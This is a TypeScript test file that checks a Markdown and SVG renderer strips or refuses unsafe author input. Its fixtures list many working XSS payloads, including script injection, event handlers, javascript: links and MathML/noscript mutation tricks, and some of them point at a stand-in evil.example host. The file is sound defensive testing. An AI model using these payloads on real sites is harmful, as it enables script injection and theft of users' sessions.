import type { Root } from 'hast'
import { toHtml } from 'hast-util-to-html'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { describe, expect, test } from 'vitest'
import { renderTest } from './test-context.ts'

/** What an author may try, and exactly what comes out of it. */
const zoo: [string, string, string][] = [
  ['a script', 'a <script>alert(1)</script> b', '<p>a  b</p>'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
  ['a script split over tags', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<p>&#x3C;script></p>'],
  ['an event handler', '<b onclick="alert(1)">x</b>', '<p><b>x</b></p>'],
  [
    'an image with onerror',
    '<img src="https://e.example/x.png" alt="x" onerror="alert(1)">',
    '<a href="https://e.example/x.png" rel="noopener noreferrer">x</a>',
  ],
  ['a javascript: link in Markdown', '[x](javascript:alert(1))', '<p><a>x</a></p>'],
  ['a javascript: link with a tab in it', '<a href="java&#9;script:alert(1)">x</a>', '<p><a>x</a></p>'],
  ['a javascript: link after a control character', '<a href="&#1;javascript:alert(1)">x</a>', '<p><a>x</a></p>'],
  ['a vbscript: link', '[x](vbscript:msgbox)', '<p><a>x</a></p>'],
  ['data: html', '[x](data:text/html;base64,PHNjcmlwdD4=)', '<p><a>x</a></p>'],
  ['a data: picture', '![x](data:image/svg+xml,<svg/onload=alert(1)>)', '<p><img alt="x"></p>'],
  ['a style attribute', '<b style="position:fixed;inset:0">x</b>', '<p><b>x</b></p>'],
  ['a style element', '<style>@import "//evil.example"</style>x', 'x'],
  ['an iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['object, embed and base', 'a <object data="x"></object><embed src="x"><base href="//evil.example/">', '<p>a </p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=//evil.example">x', '<p>x</p>'],
  ['a form', '<form action="//evil.example"><input name="password"><button>go</button></form>', ''],
  [
    'a text field outside a form',
    '<input type="text" name="password" autofocus onfocus="x">',
    '<input type="checkbox" disabled>',
  ],
  ['svg with a script', '<svg><script>alert(1)</script></svg>', '<p></p>'],
  [
    'svg that animates a link',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    '<p></p>',
  ],
  [
    'svg with foreignObject',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<p></p>',
  ],
  ['svg use of another file', '<svg><use href="//evil.example/x.svg#a"/></svg>', '<p></p>'],
  ['MathML with a link', '<math><mtext href="javascript:alert(1)">x</mtext></math>', '<p></p>'],
  [
    'MathML that turns into HTML when parsed again',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<p></p>',
  ],
  [
    'MathML annotation-xml',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<p></p>',
  ],
  [
    'noscript and a title trick',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p></p><p></p>',
  ],
  ['a comment', 'a <!-- <img src=x onerror=alert(1)> --> b', '<p>a  b</p>'],
  ['a template', '<template><img src=x onerror=alert(1)></template>', '<p></p>'],
  ['a meant id and name', '<b id="main" name="body">x</b>', '<p><b>x</b></p>'],
  ['a forged slot', 'a <tessera-slot data-slot="0">x</tessera-slot> $y$', '<p>a x <math><mi>y</mi></math></p>'],
  ['a class of the page', '<div class="dialog">x</div>', '<div>x</div>'],
  ['a protocol-relative link', '[x](//evil.example)', '<p><a href="//evil.example">x</a></p>'],
  [
    'a target with opener',
    '<a href="https://e.example" target="_blank" rel="opener">x</a>',
    '<p><a href="https://e.example" rel="noopener noreferrer">x</a></p>',
  ],
  [
    'an attribute that breaks out when written',
    "<b lang='\"><img src=x onerror=alert(1)>'>x</b>",
    '<p><b lang="&#x22;><img src=x onerror=alert(1)>">x</b></p>',
  ],
  ['TeX that writes HTML', '$\\href{javascript:alert(1)}{x}$', '<p></p>'],
  ['TeX with a colour, which is a style', '$\\color{red}{x}$', '<p><math><mrow><mi>x</mi></mrow></math></p>'],
  [
    'TeX with markup in text',
    '$\\text{<img src=x onerror=alert(1)>}$',
    '<p><math><mtext>&#x3C;img\u00a0src=x\u00a0onerror=alert(1)></mtext></math></p>',
  ],
  [
    'what is allowed',
    'H<sub>2</sub>O <kbd>Ctrl</kbd> <abbr title="x">y</abbr> <ruby>字<rt>zì</rt></ruby>',
    '<p>H<sub>2</sub>O <kbd>Ctrl</kbd> <abbr title="x">y</abbr> <ruby>字<rt>zì</rt></ruby></p>',
  ],
]

describe('what an author writes', () => {
  for (const [name, markdown, expected] of zoo) {
    test(`is free of ${name}`, async () => {
      expect((await renderTest(markdown)).html).toBe(expected)
    })
  }
})

test('means the same when a browser parses it again', async () => {
  for (const [, markdown] of zoo) {
    const { html } = await renderTest(markdown)
    const parsed: Root = unified()
      .use(rehypeRaw)
      .runSync({ type: 'root', children: [{ type: 'raw', value: html }] })
    expect(toHtml(parsed)).toBe(html)
  }
})

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" ${attributes}>${inside}</svg>`

/** Drawings that are refused, each with what is named. */
const drawings: [string, string, string][] = [
  ['a script', svg('<script>alert(1)</script>'), '<script>'],
  ['an event handler', svg('<path d="M0 0" onclick="alert(1)"/>'), 'path onClick'],
  ['onload at the root', svg('', 'onload="alert(1)"'), 'svg onLoad'],
  ['foreignObject', svg('<foreignObject><b>x</b></foreignObject>'), '<foreignObject>'],
  ['a style attribute', svg('<path style="fill:red"/>'), 'path style'],
  ['a link', svg('<a href="javascript:alert(1)"><path/></a>'), '<a>'],
  ['animation', svg('<path><animate attributeName="href" to="javascript:alert(1)"/></path>'), '<animate>'],
  ['set', svg('<path><set attributeName="onload" to="alert(1)"/></path>'), '<set>'],
  ['a picture', svg('<image href="https://evil.example/x.png"/>'), '<image>'],
  ['use of another file', svg('<use href="x.svg#a"/>'), 'use href="x.svg#a"'],
  [
    'use of another file in the old way',
    svg('<use xlink:href="https://e.example#a"/>'),
    'use xLinkHref="https://e.example#a"',
  ],
  [
    'a paint from elsewhere',
    svg('<path fill="url(https://evil.example/#x)"/>'),
    'path fill="url(https://evil.example/#x)"',
  ],
  ['HTML that breaks out', svg('<g><p>x</p></g>'), '<p>'],
  ['text after the drawing', `${svg('')}<img src=x onerror=alert(1)>`, '<img>'],
]

describe('a drawing', () => {
  for (const [name, file, what] of drawings) {
    test(`is refused with ${name}`, async () => {
      const { problems, html } = await renderTest(':::figure{#f src="f.svg" alt="x"}\n:::', { 'f.svg': file })
      expect(problems.map(({ code, args }) => [code, args['what']])).toContainEqual(['svg-forbidden', what])
      expect(html).toBe('')
    })
  }
})

test('sets a drawing into the page without its own style, name and free ids', async () => {
  const file = `<?xml version="1.0"?>\n${svg('<title>T</title><style>.ink{fill:red}</style><defs><marker id="m"><path d="M0 0"/></marker></defs><path class="ink" d="M0 0" marker-end="url(#m)"/><use href="#m"/><text x="1">a b</text>', 'class="fig"')}`
  const { html, problems } = await renderTest(
    ':::figure{#f src="f.svg" alt="Two &amp; &quot;three&quot;"}\nSee *here*.\n:::',
    { 'f.svg': file },
  )
  expect(problems).toEqual([])
  expect(html).toBe(
    '<figure id="f"><div class="scroller" tabindex="0" role="region" aria-label="Figure 1"><svg viewBox="0 0 9 9" class="fig" role="img" aria-label="Two &#x26; &#x22;three&#x22;" width="8" height="8" focusable="false"><defs><marker id="f-m"><path d="M0 0"></path></marker></defs>' +
      '<path class="ink" d="M0 0" marker-end="url(#f-m)"></path><use href="#f-m"></use><text x="1">a b</text></svg></div><figcaption>See <em>here</em>.</figcaption></figure>',
  )
})

test('lets a drawing get no smaller than its letters can be read, and says where it is then moved sideways', async () => {
  const { html } = await renderTest(
    ':::figure{#f src="f.svg" alt="x"}\n:::',
    { 'f.svg': '<svg viewBox="0 0 640 330"><text>a</text></svg>' },
    'zh-CN',
  )
  expect(html).toContain(
    '<div class="scroller" tabindex="0" role="region" aria-label="图 1"><svg viewBox="0 0 640 330" role="img" aria-label="x" width="542" height="280"',
  )
  expect(html).toContain('</div><p class="sideways" aria-hidden="true">左右滑动，查看全图</p></figure>')
})
